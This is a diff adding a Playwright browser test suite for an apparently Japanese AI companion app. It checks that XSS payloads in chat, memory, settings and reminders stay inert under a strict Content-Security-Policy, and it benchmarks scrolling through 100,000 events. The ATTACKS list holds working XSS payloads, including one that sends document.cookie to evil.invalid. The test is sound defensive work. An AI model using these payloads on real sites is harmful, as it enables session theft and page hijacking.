@@ -1,0 +1,149 @@
+"""R27: hostile text in every field is text; nothing runs, nothing leaves, the policy is strict."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.browser.conftest import House, Opener, Watch
+from tests.conftest import Figures
+
+pytestmark = pytest.mark.browser
+ATTACKS = (
+    "<script>window.__ran=1</script>",
+    "<img src=x onerror=\"window.__ran=1;fetch('http://evil.invalid/?'+document.cookie)\">",
+    "<svg onload=window.__ran=1>",
+    "\"><iframe srcdoc='<script>parent.__ran=1</script>'>",
+    "javascript:window.__ran=1//",
+    '<a href="javascript:window.__ran=1">抹茶</a>が好きです。',
+    "<style>@import 'http://evil.invalid/x.css';body{background:url(http://evil.invalid/y)}</style>",
+    "{{constructor.constructor('window.__ran=1')()}}",
+    "![x](http://evil.invalid/z.png) [click](javascript:window.__ran=1)",
+    "</title></textarea><meta http-equiv=refresh content='0;url=http://evil.invalid'>",
+)
+SCREENS = (
+    "chat", "memory", "memory?tab=events", "memory/e1", "memory/s1", "why", "why/1", "heart", "timeline",
+    "likes", "graph/e1", "tidy", "reminders", "settings", "logs", "memory?q=%3Cscript%3E",
+    "graph/t:%3Cscript%3E", "%3Cscript%3E",
+)  # fmt: skip
+REMINDER = {
+    "enabled": True,
+    "repeat_kind": "daily",
+    "scheduled_at": None,
+    "time_of_day": "09:30",
+    "weekdays": [],
+}
+
+
+def poison(house: House) -> None:
+    """Hostile text in every field a client can write."""
+    for attack in ATTACKS:
+        house.talk(attack)
+    house.talk(f"{ATTACKS[2]} が好きです。私の名前は {ATTACKS[1]} です。")
+    for attack in ATTACKS[:3]:
+        house.call("POST", "/api/v2/notification", {"source_system": attack, "text": attack})
+        house.call("POST", "/api/reminders", {**REMINDER, "content": attack})
+    states = house.call("GET", "/api/memory/state")["items"]
+    for state in states[:3]:
+        house.call(
+            "PATCH", f"/api/memory/state/{state['state_id']}", {"body_text": ATTACKS[1], "reason": ATTACKS[0]}
+        )
+    settings = house.call("GET", "/api/settings")
+    settings["persona_preset"][0].update(
+        persona_preset_name=ATTACKS[1], persona_text=ATTACKS[0], second_person_label=ATTACKS[2]
+    )
+    settings["llm_preset"][0]["llm_preset_name"] = ATTACKS[3]
+    settings["addon_preset"][0].update(addon_preset_name=ATTACKS[1], addon_text=ATTACKS[0])
+    house.call("PUT", "/api/settings", settings)
+    house.settle()
+
+
+def test_hostile_text_stays_text(house: House, open_page: Opener, watch: Watch, figures: Figures) -> None:
+    poison(house)
+    page = open_page(house)
+    expect(page.locator(".turn").first).to_be_visible()
+    ran = 0
+    for screen in SCREENS:
+        page.goto(f"{house.url}/#/{screen}")
+        page.wait_for_load_state("networkidle")
+        ran += int(page.evaluate("window.__ran ?? 0"))
+        assert page.locator("main iframe, main script, main style, main meta").count() == 0, screen
+    figures(
+        "R27",
+        f"{len(ATTACKS)} attacks on {len(SCREENS)} views: {ran} ran, {len(watch.strangers)} requests left",
+    )
+    assert ran == 0
+    assert watch.strangers == []
+    assert [line for line in watch.troubles if "404" not in line and "400" not in line] == []
+
+
+def test_the_policy_is_strict(lived_in: House, open_page: Opener) -> None:
+    page = open_page(lived_in)
+    policy = page.request.get(lived_in.url).headers["content-security-policy"]
+    for rule in (
+        "default-src 'self'",
+        "script-src 'self'",
+        "style-src 'self'",
+        "object-src 'none'",
+        "base-uri 'none'",
+    ):
+        assert rule in policy
+    assert "unsafe" not in policy
+    blocked = page.evaluate(
+        """() => { const s = document.createElement('script'); s.textContent = 'window.__inline = 1';
+        document.body.append(s); return window.__inline === undefined; }"""
+    )
+    assert blocked
+
+
+def test_a_hundred_thousand_events_scroll_smoothly(
+    lived_in: House, open_page: Opener, figures: Figures
+) -> None:
+    """The browser meets a server that has 100,000 events; only the answers of one call are stood in for."""
+    page = open_page(lived_in)
+    expect(page.get_by_label("話しかける")).to_be_visible()
+    page.route(
+        "**/api/memory/events?*", lambda route: route.fulfill(json=_hundred_thousand(route.request.url))
+    )
+    page.evaluate(
+        """() => { window.__long = []; new PerformanceObserver(l => l.getEntries().forEach(e =>
+        window.__long.push(e.duration))).observe({type: 'longtask', buffered: false}); }"""
+    )
+    page.evaluate("location.hash = '#/memory?tab=events'")
+    rows = page.locator(".vlist")
+    expect(rows).to_be_visible()
+    for _ in range(60):
+        rows.evaluate("el => el.scrollBy(0, 4000)")
+        page.wait_for_timeout(50)
+    deepest = int(page.locator(".vrow").last.get_attribute("aria-posinset") or 0)
+    drawn = page.locator(".vrow").count()
+    longest = max(page.evaluate("window.__long"), default=0)
+    figures("R27", f"memory browser: {deepest} rows deep, {drawn} drawn, longest task {longest:.0f} ms")
+    assert deepest > 1000
+    assert drawn < 80
+
+
+def _hundred_thousand(url: str) -> dict[str, object]:
+    found = re.search(r"cursor=(\d+)", url)
+    top = int(found[1]) if found else 100_001
+    items = [_event(number) for number in range(top - 1, max(0, top - 61), -1)]
+    return {"items": items, "next_cursor": items[-1]["event_id"] if items and top > 61 else None}
+
+
+def _event(number: int) -> dict[str, object]:
+    return {
+        "event_id": number,
+        "created_at": 1_700_000_000 + number,
+        "updated_at": 0,
+        "source": "chat",
+        "origin": "user",
+        "status": "done",
+        "conversation": "main",
+        "searchable": True,
+        "user_text": f"{number} 番目の話。" * (1 + number % 5),
+        "assistant_text": "うん、覚えておくね。",
+        "entities": [],
+        "about": {"confidence": 0.0},
+    }
